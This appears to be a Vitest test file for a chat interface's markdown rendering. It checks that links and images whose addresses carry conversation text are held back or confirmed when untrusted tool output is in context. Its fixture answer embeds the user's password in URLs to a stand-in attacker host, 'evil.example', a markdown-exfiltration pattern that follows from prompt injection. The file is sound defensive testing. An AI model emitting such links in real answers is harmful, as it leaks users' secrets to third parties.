import { act, cleanup, createEvent, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, expect, it, vi } from 'vitest';
import { toolOutput, type Tools } from '@chat-stream/core';
import { Chat } from '../../../chat/Chat.js';
import { testChat } from '../../../testTools.js';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const ANSWER =
  'Done: [prices](https://evil.example/?q=hunter2), [page](https://shop.example/news) ![sum](https://evil.example/p.png?q=hunter2)';

async function showAnswer(trust: 'trusted' | 'untrusted'): Promise<void> {
  const tools: Tools = {
    read: { execute: () => toolOutput({ text: 'News.', origin: { name: 'shop.example', trust } }) },
  };
  const chat = testChat({
    script: (request) =>
      request.messages.at(-1)?.role === 'tool' ? ANSWER : [{ type: 'tool-call', name: 'read', arguments: {} }],
    tools,
  });
  const markdown = { urlPolicy: { images: ['https://evil.example/'] } };
  render(<Chat chat={chat} tools={tools} markdown={markdown} />);
  await act(() => chat.send('Read https://shop.example/news. My password is hunter2.'));
}

/** Clicks a link, and says whether the browser would follow it. */
function follows(name: string): boolean {
  const link = screen.getByRole('link', { name: new RegExp(name) });
  const click = createEvent.click(link);
  fireEvent(link, click);
  return !click.defaultPrevented;
}

it('shows the target of a link that carries words of the conversation before it opens', async () => {
  const open = vi.spyOn(window, 'open').mockReturnValue(null);
  await showAnswer('untrusted');
  expect(follows('prices')).toBe(false);
  const question = screen.getByRole('group', { name: /may send text/ });
  expect(question.textContent).toContain('https://evil.example/?q=hunter2');
  fireEvent.click(screen.getByRole('button', { name: 'Cancel' }));
  expect(open).not.toHaveBeenCalled();
  expect(document.activeElement).toBe(screen.getByRole('link', { name: /prices/ }));
  follows('prices');
  fireEvent.click(screen.getByRole('button', { name: 'Open link' }));
  expect(open).toHaveBeenCalledWith('https://evil.example/?q=hunter2', '_blank', 'noopener,noreferrer');
});

it('loads no picture whose address carries words of the conversation, even from a permitted place, and shows the address', async () => {
  await showAnswer('untrusted');
  expect(screen.queryByRole('img', { name: 'sum' })).toBeNull();
  expect(screen.getByText('https://evil.example/p.png?q=hunter2')).toBeDefined();
});

it('follows links that the conversation quotes', async () => {
  await showAnswer('untrusted');
  expect(follows('page')).toBe(true);
});

it('follows all links, and loads permitted pictures, while nothing untrusted is in the context', async () => {
  await showAnswer('trusted');
  expect(follows('prices')).toBe(true);
  expect(screen.getByRole('img', { name: 'sum' })).toBeDefined();
});
